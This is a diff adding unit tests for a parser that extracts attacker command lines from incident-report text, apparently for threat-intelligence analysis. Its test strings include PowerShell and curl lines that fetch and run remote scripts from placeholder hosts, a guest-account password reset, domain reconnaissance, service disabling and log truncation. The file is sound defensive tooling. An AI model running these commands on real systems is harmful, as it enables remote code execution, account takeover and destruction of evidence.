@@ -228,4 +228,135 @@ describe('extractCmdlines', () => {
     ]);
     expect(values('2024-03-02T10:15:00Z - nltest /dclist:corp')).toEqual(['nltest /dclist:corp']);
   });
+
+  it('reads a program whose path has spaces, quoted or as a page printed it unquoted', () => {
+    expect(values('"C:\\Program Files\\Acme Sync\\acme.exe" --hidden')).toEqual(['"C:\\Program Files\\Acme Sync\\acme.exe" --hidden']);
+    expect(values('D:\\Program Files\\DbTool\\9\\bin\\dbq.exe -U admin -c "SELECT 1"')).toEqual([
+      'D:\\Program Files\\DbTool\\9\\bin\\dbq.exe -U admin -c "SELECT 1"',
+    ]);
+    expect(
+      values('Archives were opened with "C:\\Program Files\\Packer\\pk.exe" x -y "E:\\data.zip" E:\\out The next step was staging.'),
+    ).toEqual(['"C:\\Program Files\\Packer\\pk.exe" x -y "E:\\data.zip" E:\\out']);
+  });
+
+  it('ends a command in a sentence at punctuation a page set apart with spaces, keeping a switch that ends in a colon', () => {
+    expect(values('They then ran tool.exe . Analysis showed more.')).toEqual([]);
+    expect(values('By running net user guest Secr3t! , they took over the account.')).toEqual(['net user guest Secr3t!']);
+    expect(values('They listed controllers with nltest /dclist: and moved on.')).toEqual(['nltest /dclist:']);
+  });
+
+  it('reads the command-line field of an event whose fields a page ran onto one line', () => {
+    const text = [
+      'The event:',
+      '',
+      'ParentImage: svchost.exe Image: C:\\Windows\\System32\\cmd.exe CommandLine: cmd.exe /c echo hi > C:\\t\\a.txt',
+      'CommandLine: C:\\Users\\bob\\AppData\\Local\\Temp\\updater.exe',
+    ].join('\n');
+    expect(values(text)).toEqual(['cmd.exe /c echo hi > C:\\t\\a.txt', 'C:\\Users\\bob\\AppData\\Local\\Temp\\updater.exe']);
+  });
+
+  it('reads each command of a line listing the /c tails a shell ran, without the elision after one', () => {
+    const text = 'The beacon ran:\n/c hostname /c arp -a /c ping -n 2 db01.corp.test (...) /c cmd /c ver /c netstat -ano';
+    expect(values(text)).toEqual(['hostname', 'arp -a', 'ping -n 2 db01.corp.test', 'cmd /c ver', 'netstat -ano']);
+  });
+
+  it('splits a line of commands a page ran together where the same program starts again or a bare tool is followed by a path', () => {
+    const text = [
+      'On the file server:',
+      '',
+      'hostname D:\\Tools\\viewer.exe D:\\logs\\app.log net view net share',
+      '',
+      'Then:',
+      '',
+      'ping -n 2 fs01.corp.test ping -n 2 fs02.corp.test',
+      '',
+      'And:',
+      '',
+      'net config net session D:\\Tools\\mon.exe /2',
+    ].join('\n');
+    expect(values(text)).toEqual([
+      'hostname',
+      'D:\\Tools\\viewer.exe D:\\logs\\app.log',
+      'net view',
+      'net share',
+      'ping -n 2 fs01.corp.test',
+      'ping -n 2 fs02.corp.test',
+      'net config',
+      'net session',
+      'D:\\Tools\\mon.exe /2',
+    ]);
+  });
+
+  it('splits a command a page glued onto the end of the one before it, with no space between', () => {
+    const text = 'sc.exe config AppSvc start= disabledsc.exe config LogSvc start= disabled';
+    expect(values(text)).toEqual(['sc.exe config AppSvc start= disabled', 'sc.exe config LogSvc start= disabled']);
+  });
+
+  it('does not read a product name followed by a title as a command', () => {
+    expect(values('e3b0c442-98fc-1c14 : PowerShell Encoded ToBase64String Usage')).toEqual([]);
+    expect(values('Rule 4412 matched Unusual PowerShell ScriptBlock activity.')).toEqual([]);
+    expect(values('The AWS [guide](https://docs.example.test/iam) lists good practices for IAM.')).toEqual([]);
+    expect(values('Analysts ran PowerShell -NoProfile -File C:\\t\\a.ps1 on the host.')).toEqual([
+      'PowerShell -NoProfile -File C:\\t\\a.ps1',
+    ]);
+  });
+
+  it('skips the control statements of program code and English "if" or "for" after a tool name', () => {
+    const text = ['```c', 'if (system("uname -a") != 0) {', '  return 2;', '}', '```'].join('\n');
+    expect(values(text)).toEqual([]);
+    expect(values('It checks if `/proc/x/flag` exists first.')).toEqual([]);
+    expect(values('They used net user and net group for domain enumeration.')).toEqual([]);
+  });
+
+  it('strips a host:path$ prompt and joins an indented line that carries on an open parenthesis or a trailing switch', () => {
+    const text = [
+      '```bash',
+      'web-01:~$ rmdir cache.d',
+      'truncate -s 0 /var/log/app.log',
+      '```',
+      '',
+      '```powershell',
+      "(Invoke-webrequest -Uri 'https://a.example.test/p'",
+      '    -UseBasicParsing).content | iex',
+      'Invoke-WebRequest -Uri "https://a.example.test/z" -OutFile',
+      '    "$env:TEMP\\z.zip"',
+      '```',
+    ].join('\n');
+    expect(values(text)).toEqual([
+      'rmdir cache.d',
+      'truncate -s 0 /var/log/app.log',
+      "(Invoke-webrequest -Uri 'https://a.example.test/p' -UseBasicParsing).content | iex",
+      'Invoke-WebRequest -Uri "https://a.example.test/z" -OutFile "$env:TEMP\\z.zip"',
+    ]);
+  });
+
+  it('reads a command whose output a variable captures in inline code', () => {
+    expect(values('Create it: ```QUEUE_URL=$(aws sqs create-queue --queue-name q1 --output text)``` then wait.')).toEqual([
+      'QUEUE_URL=$(aws sqs create-queue --queue-name q1 --output text)',
+    ]);
+  });
+
+  it('reads a command a script builds in a template literal, and drops a clipped literal \\n after a code line', () => {
+    const text = [
+      '```javascript',
+      'const cmd = `curl -fsSL "https://${host}/s.sh" | sh`;',
+      '```',
+      '',
+      '```',
+      'del "%%1" /f /q\\n',
+      '```',
+    ].join('\n');
+    expect(values(text)).toEqual(['curl -fsSL "https://${host}/s.sh" | sh', 'del "%%1" /f /q']);
+  });
+
+  it('does not read tools offered as alternatives ("grep / zgrep") as a command on the root path', () => {
+    expect(values('Logs can be searched with grep / zgrep, or any text tool.')).toEqual([]);
+    expect(values('They listed it with ls / -la on the host.')).toEqual(['ls / -la']);
+  });
+
+  it('keeps a word spelt like a function word when a switch follows it, after a quoted program path', () => {
+    expect(values('For example "C:\\Program Files\\Zipper\\zp.exe" a -r -- . E:\\out\\x The actor then left.')).toEqual([
+      '"C:\\Program Files\\Zipper\\zp.exe" a -r -- . E:\\out\\x',
+    ]);
+  });
 });
